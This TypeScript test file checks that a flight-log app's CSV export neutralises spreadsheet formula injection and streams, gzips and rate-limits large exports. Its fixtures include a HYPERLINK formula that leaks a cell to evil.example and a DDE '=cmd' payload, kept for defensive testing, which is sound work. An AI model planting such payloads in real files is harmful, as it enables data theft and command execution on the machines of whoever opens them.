// The CSV exports against hostile text and a crowd: a flight title, pilot name and waypoint that
// a spreadsheet would run as formulas come out neutralised (OWASP, CSV Injection) while negative
// figures stay numbers; the fuel log streams in pieces; heavy exports beyond the limit answer 429
// and give their place back when the body has been read or abandoned.
import { gunzipSync } from 'node:zlib';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { db } from '$lib/server/db';
import { memberships } from '$lib/server/db/schema';
import type { AuthUser } from '$lib/server/auth';
import { GET as exportGET } from '../../src/routes/api/v1/flights/[id]/export/+server';
import { apiEvent, makeClub, makeUser, upload, type Club } from './upload-fixture';

const TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the flight")';
const PILOT = `=cmd|' /C calc'!A0`;
const WAYPOINT = '@SUM(1+1)';

let club: Club;
let pilot: AuthUser;
let flightId: string;
beforeAll(async () => {
	club = await makeClub('Export Club');
	pilot = await makeUser(PILOT);
	await db.insert(memberships).values({ orgId: club.orgId, userId: pilot.id, role: 'pilot' });
	// 5 US gal on board, 400 NM to go at 100 kt and 2 US gal/h: less fuel than the leg needs, so the
	// fuel left at the waypoint (reserve_at_wpt) is negative throughout.
	const lines = ['time_utc,fuel_flow_usgph,ground_speed_kt,distance_to_go_nm,waypoint'];
	for (let i = 0; i < 5000; i++) lines.push(`${new Date(Date.UTC(2026, 7, 1, 9, 0, i)).toISOString()},2,100,${(400 - i / 36).toFixed(3)},${i < 2500 ? WAYPOINT : '-WPT'}`);
	const res = await upload(pilot, { aircraftId: club.trainer.id, file: lines.join('\n') + '\n', declaration: 'onBoard', amount: '5', fields: { title: TITLE } });
	expect(res.status, JSON.stringify(res.body)).toBe(201);
	flightId = res.body.flightId;
});

const env = { ...process.env };
afterEach(() => {
	for (const k of ['EXPORT_HEAVY_SAMPLES', 'EXPORT_MAX_HEAVY']) {
		if (env[k] === undefined) delete process.env[k];
		else process.env[k] = env[k];
	}
});

function exportAs(user: AuthUser, query: string, headers: Record<string, string> = {}) {
	const e = apiEvent(new Request(`http://127.0.0.1:4173/api/v1/flights/${flightId}/export${query}`, { headers }), user) as unknown as { params: Record<string, string> };
	e.params = { id: flightId };
	return Promise.resolve(exportGET(e as never));
}

const rowsOf = (text: string) => Papa.parse<string[]>(text.trim(), { newline: '\r\n' }).data;
const FORMULA = /^[=+\-@\t\r]/;

describe('CSV exports and formula injection', () => {
	it('the summary: the title and the pilot’s name are neutralised with a leading quote', async () => {
		const res = await exportAs(club.viewer, '?what=summary');
		expect(res.status).toBe(200);
		const text = await res.text();
		const rows = rowsOf(text);
		const value = (field: string) => rows.find((r) => r[0] === field)?.[1];
		expect(value('Title')).toBe(`'${TITLE}`);
		expect(value('Pilot')).toBe(`'${PILOT}`);
		// The raw line: the cell is quoted as a whole, with its quotes doubled.
		expect(text).toContain(`Title,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open the flight"")",`);
		for (const r of rows) for (const c of r) if (!/^-?\d+(\.\d+)?$/.test(c)) expect(FORMULA.test(c), `cell ${JSON.stringify(c)}`).toBe(false);
	});

	it('the log: waypoints neutralised, negative figures still plain numbers', async () => {
		const res = await exportAs(club.viewer, '?unit=usgal');
		expect(res.status).toBe(200);
		const rows = rowsOf(await res.text());
		const header = rows[0];
		const wpt = header.indexOf('Waypoint');
		const left = header.indexOf('Left on arrival (US gal)');
		expect(rows.slice(1).map((r) => r[wpt])).toContain(`'${WAYPOINT}`);
		expect(rows.slice(1).map((r) => r[wpt])).toContain(`'-WPT`);
		const negatives = rows.slice(1).filter((r) => r[left].startsWith('-'));
		expect(negatives.length).toBeGreaterThan(0);
		for (const r of negatives) expect(r[left]).toMatch(/^-\d+(\.\d{1,3})?$/);
		for (const r of rows) for (const [k, c] of r.entries()) if (k !== left && !/^-?\d+(\.\d+)?$/.test(c)) expect(FORMULA.test(c), `cell ${JSON.stringify(c)}`).toBe(false);
	});
});

describe('heavy exports', () => {
	it('stream in pieces, the same text gzipped or not', async () => {
		const plain = await exportAs(club.viewer, '');
		const reader = plain.body!.getReader();
		const pieces: Uint8Array[] = [];
		for (let r = await reader.read(); !r.done; r = await reader.read()) pieces.push(r.value);
		expect(pieces.length).toBeGreaterThan(2);
		const text = Buffer.concat(pieces).toString('utf8');
		expect(rowsOf(text)).toHaveLength(5001);
		const zipped = await exportAs(club.viewer, '', { 'accept-encoding': 'gzip' });
		expect(zipped.headers.get('content-encoding')).toBe('gzip');
		expect(gunzipSync(Buffer.from(await zipped.arrayBuffer())).toString('utf8')).toBe(text);
	});

	it('beyond the limit answer 429 with a wait; a place comes back when a body is read or abandoned', async () => {
		process.env.EXPORT_HEAVY_SAMPLES = '1000';
		process.env.EXPORT_MAX_HEAVY = '1';
		const first = await exportAs(club.viewer, '');
		expect(first.status).toBe(200);
		const second = await exportAs(pilot, '');
		expect(second.status).toBe(429);
		expect(second.headers.get('retry-after')).toBe('15');
		expect((await second.json()).detail).toMatch(/exporting 1 long flights already/);
		// The summary of a heavy flight computes it all too: it is limited the same way.
		expect((await exportAs(pilot, '?what=summary')).status).toBe(429);
		await first.text();
		const third = await exportAs(pilot, '');
		expect(third.status).toBe(200);
		// A client that goes away gives the place back too.
		await third.body!.cancel();
		const fourth = await exportAs(pilot, '?what=summary');
		expect(fourth.status).toBe(200);
		await fourth.text();
		// A light flight is never refused: above the threshold only.
		process.env.EXPORT_HEAVY_SAMPLES = '100000';
		const held = await exportAs(club.viewer, '');
		expect((await exportAs(pilot, '')).status).toBe(200);
		await held.text();
	});
});
